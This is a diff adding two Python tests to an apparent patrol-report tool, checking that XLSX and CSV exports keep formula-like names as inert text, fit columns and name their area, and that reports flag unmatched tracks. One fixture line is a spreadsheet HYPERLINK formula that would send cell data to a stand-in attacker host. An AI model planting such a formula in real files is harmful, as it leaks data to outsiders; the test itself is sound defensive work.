@@ -170,3 +170,61 @@ def test_rematch_since_alone_says_it_is_one_day(town, pg_url) -> None:  # noqa: 
     assert res.returncode == 0, res.stderr
     # one line, though printed to a pipe (rich wrapped it at 80 columns there)
     assert f"of {WED} (one day: add --until for more) (0 were queued already)\n" in res.stdout
+
+
+def test_exports_keep_text_inert_fitted_and_name_their_area(town, tmp_path) -> None:  # noqa: ANN001, F811
+    """What a reports officer found: a name starting with "=" was a live formula in the XLSX
+    and the CSV; columns were 8.4 characters wide (dates showed as ########) with no frozen
+    header; a community's file did not say which community it covers."""
+    evil = '=HYPERLINK("http://attacker.example/x?"&A1,"管家P")'
+    with town["db"].begin() as conn:
+        conn.execute(
+            text("UPDATE people SET name = :n WHERE id = :p"), {"n": evil, "p": town["people"]["P"]}
+        )
+    rep = build_report(town["db"], "daily", WED, area=COMMUNITY, today=FAR)
+    period = report_period("daily", WED, FAR)
+    export_report(rep, tmp_path / "r.xlsx", period, 0.8)
+    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
+    people = book.worksheets[0]
+    names = [c.value for c in people["D"]] + [c.value for c in people["E"]]
+    assert evil in names  # a text cell: openpyxl reads a formula cell's text too, so…
+    cell = next(c for row in people.iter_rows() for c in row if c.value == evil)
+    assert cell.data_type == "s"  # …its type says it: "s" text, not "f" formula
+    assert people.freeze_panes == "A2" and people.auto_filter.ref
+
+    def width(sheet: Any, header: str) -> float:  # openpyxl keeps runs of equal columns
+        col = next(c.column for c in sheet[1] if c.value == header)
+        return next(d.width for d in sheet.column_dimensions.values() if d.min <= col <= d.max)
+
+    assert width(people, "姓名 name") >= 12 and width(people, "人员编号 person id") >= 12
+    alleys = book.worksheets[1]
+    assert width(alleys, "首次时间 first time") >= 19  # no ########
+    about = {r[0].value: r[1].value for r in book.worksheets[-1].iter_rows(2)}
+    assert COMMUNITY in about["区域 area"]
+    export_report(rep, tmp_path / "r.csv", period, 0.8, "people")
+    csv = pd.read_csv(tmp_path / "r.csv", encoding="utf-8-sig", dtype=str)
+    assert "'" + evil in set(csv["姓名 name"])  # Excel shows it as text, runs nothing
+    assert report_json(rep) and rep.meta["area_name"]
+    from geo.patrol_reports import report_summary
+
+    assert report_summary(rep, period)["area"]["code"] == COMMUNITY
+
+
+def test_a_report_says_when_tracks_of_its_days_are_not_matched_yet(town) -> None:  # noqa: ANN001, F811
+    """A weekly check run during a worker backlog gave rates that looked final."""
+    walk = dt.datetime.combine(WED, dt.time(9), TZ)
+    with town["db"].begin() as conn:
+        for i, status in enumerate(("queued", "queued", "failed", "matched")):
+            conn.execute(
+                text(
+                    "INSERT INTO tracks (sha256, raw, format, crs, size_bytes, started_at, "
+                    "ended_at, status, n_points) VALUES "
+                    "(:h, '\\x00', 'gpx', 'wgs84', 1, :a, :b, :s, 2)"
+                ),
+                {"h": f"e{i:063d}", "a": walk, "b": walk + dt.timedelta(hours=1), "s": status},
+            )
+    notes = build_report(town["db"], "weekly", WED, today=FAR).meta["notes"]
+    assert any(n.startswith("2 条轨迹待匹配") for n in notes), notes
+    assert any(n.startswith("1 条轨迹匹配失败") for n in notes), notes
+    later = build_report(town["db"], "daily", WED + dt.timedelta(days=1), today=FAR)
+    assert not any("轨迹" in n for n in later.meta["notes"])  # other days: nothing to say
